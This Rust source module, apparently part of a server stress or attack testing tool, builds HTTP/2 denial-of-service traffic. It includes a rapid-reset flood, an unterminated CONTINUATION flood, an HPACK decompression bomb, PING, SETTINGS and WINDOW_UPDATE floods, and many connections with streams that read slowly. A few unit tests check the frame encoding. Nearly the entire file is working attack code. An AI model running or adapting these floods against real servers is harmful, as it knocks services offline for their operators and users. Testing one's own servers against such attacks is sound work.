//! HTTP/2 frames that no honest client sends, or not so many of (RFC 9113; RFC 7541 for what is in HEADERS).

use super::super::link::Appetite;
use super::super::party::{Flood, Opening, Party};
use super::{Kind, PLAIN};

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS_FRAME: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Connections with streams that aren't read, and streams of each.
const STREAMED: usize = 200;
const STREAMS_EACH: u32 = 64;
/// Connections that flood, unless there are more networks.
const FLOODS: usize = 4;
/// Frames that are sent at once.
const FRAMES: u64 = 500;
/// A value that just fits into the table of 4096 bytes, and how often a request names it: 31 MB in 8 KB.
const VALUE: usize = 4000;
const TIMES: usize = 8000;
/// What came into the table last (RFC 7541, 2.3.3).
const LATEST: u8 = 0x80 | 62;

const HTTP2: Kind = Kind { is_tls: true, ..PLAIN };
const FLOOD: Kind = Kind { is_cpu: true, ..HTTP2 };

pub const STREAMS: Kind = Kind {
    name: "streams",
    what: "200 connections with 64 streams each that ask for 100 MB and take a byte",
    run: streams,
    ..HTTP2
};

pub const PINGS: Kind =
    Kind { name: "pings", what: "HTTP/2 PING frames", run: |party| control(party, PING, &[0; 8]), ..FLOOD };

pub const SETTINGS: Kind = Kind {
    name: "settings",
    what: "HTTP/2 SETTINGS frames",
    run: |party| control(party, SETTINGS_FRAME, &[0, 4, 0, 0, 255, 255]),
    ..FLOOD
};

pub const WINDOWS: Kind = Kind {
    name: "windows",
    what: "HTTP/2 WINDOW_UPDATE frames",
    run: |party| control(party, WINDOW_UPDATE, &[0, 0, 0, 1]),
    ..FLOOD
};

pub const RESETS: Kind = Kind {
    name: "resets",
    what: "HTTP/2 requests that are reset at once",
    is_quick: true,
    run: |party| {
        let fields = request(&party.scene.small);
        floods(party, |stream, out| {
            for _ in 0..FRAMES {
                *stream = next(*stream);
                frame(out, HEADERS, END_STREAM | END_HEADERS, *stream, &fields);
                // CANCEL
                frame(out, RST_STREAM, 0, *stream, &[0, 0, 0, 8]);
            }
            FRAMES
        })
    },
    ..FLOOD
};

pub const CONTINUATIONS: Kind = Kind {
    name: "continuations",
    what: "one HTTP/2 head without an end, in CONTINUATION frames",
    run: |party| {
        let field = [literal(0, b"x"), string(&[b'a'; 100])].concat();
        floods(party, |stream, out| {
            if *stream == 0 {
                *stream = 1;
                frame(out, HEADERS, END_STREAM, 1, &request(&party.scene.small));
            }
            (0..FRAMES).for_each(|_| frame(out, CONTINUATION, 0, 1, &field));
            FRAMES
        })
    },
    ..FLOOD
};

pub const HPACK: Kind = Kind {
    name: "hpack",
    what: "HTTP/2 heads of 8 KB that stand for 31 MB",
    run: |party| {
        let head = request(&party.scene.small);
        // With incremental indexing (RFC 7541, 6.2.1).
        let entry = [&head, [0x40].as_slice(), &string(b"x"), &string(&[b'a'; VALUE])].concat();
        let bomb = [head.as_slice(), &[LATEST].repeat(TIMES)].concat();
        floods(party, |stream, out| {
            let is_first = *stream == 0;
            *stream = next(*stream);
            frame(out, HEADERS, END_STREAM | END_HEADERS, *stream, if is_first { &entry } else { &bomb });
            1
        })
    },
    ..FLOOD
};

fn streams(party: &Party) -> anyhow::Result<()> {
    let mut first = preface(1);
    let fields = request(&party.scene.large[0]);
    for number in 0..STREAMS_EACH {
        frame(&mut first, HEADERS, END_STREAM | END_HEADERS, 2 * number + 1, &fields);
    }
    party.holds(STREAMED, &Opening::tls(&party.scene.http2, &first), b"", Appetite::All)
}

/// A flood of one frame of the whole connection.
fn control(party: &Party, kind: u8, payload: &[u8]) -> anyhow::Result<()> {
    let mut frames = Vec::new();
    (0..FRAMES).for_each(|_| frame(&mut frames, kind, 0, 0, payload));
    floods(party, |_, out| {
        out.extend_from_slice(&frames);
        FRAMES
    })
}

fn floods(party: &Party, batch: impl FnMut(&mut u32, &mut Vec<u8>) -> u64) -> anyhow::Result<()> {
    let first = preface(65_535);
    let flood = Flood {
        opening: Opening::tls(&party.scene.http2, &first),
        connections: FLOODS.max(party.scene.sources.len()),
        appetite: Appetite::All,
        lifetime: None,
    };
    party.floods(&flood, batch)
}

/// What a connection begins with: streams have this window, the connection the largest.
fn preface(window: u32) -> Vec<u8> {
    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    frame(&mut out, SETTINGS_FRAME, 0, 0, &[[0, 4].as_slice(), &window.to_be_bytes()].concat());
    frame(&mut out, WINDOW_UPDATE, 0, 0, &0x3fff_0000_u32.to_be_bytes());
    out
}

fn next(stream: u32) -> u32 {
    if stream == 0 { 1 } else { stream + 2 }
}

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).expect("frames here are short").to_be_bytes();
    out.extend_from_slice(&length[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// The fields of a GET: method and scheme by their numbers, path and authority as literals.
fn request(path: &str) -> Vec<u8> {
    [vec![0x82, 0x87], literal(4, path.as_bytes()), literal(1, b"localhost")].concat()
}

/// A literal field without indexing whose name has this number; for 0 the name follows, and then its value.
fn literal(name: u8, value: &[u8]) -> Vec<u8> {
    [vec![name], string(value)].concat()
}

/// A string without Huffman's code (RFC 7541, 5.2).
fn string(value: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    let length = value.len();
    if length < 127 {
        out.push(u8::try_from(length).expect("below 127"));
    } else {
        out.push(127);
        let mut rest = length - 127;
        while rest >= 128 {
            out.push(u8::try_from(rest % 128).expect("below 128") | 128);
            rest /= 128;
        }
        out.push(u8::try_from(rest).expect("below 128"));
    }
    out.extend_from_slice(value);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_and_fields_are_as_the_rfcs_have_them() {
        let mut out = Vec::new();
        frame(&mut out, PING, 1, 3, &[7; 8]);
        assert_eq!(out, [0, 0, 8, 6, 1, 0, 0, 0, 3, 7, 7, 7, 7, 7, 7, 7, 7]);
        assert_eq!(request("/a"), b"\x82\x87\x04\x02/a\x01\x09localhost");
        assert_eq!(string(&[b'a'; 200])[..2], [127, 73], "200 is 127 and 73 more");
        // RFC 7541, C.1.2: 1337 is 31, 154, 10 with a prefix of 5 bits; 4000 is 127, 161, 30 with one of 7.
        assert_eq!(string(&[0; 4000])[..3], [127, 161, 30]);
        assert_eq!(LATEST, 0xbe);
    }
}
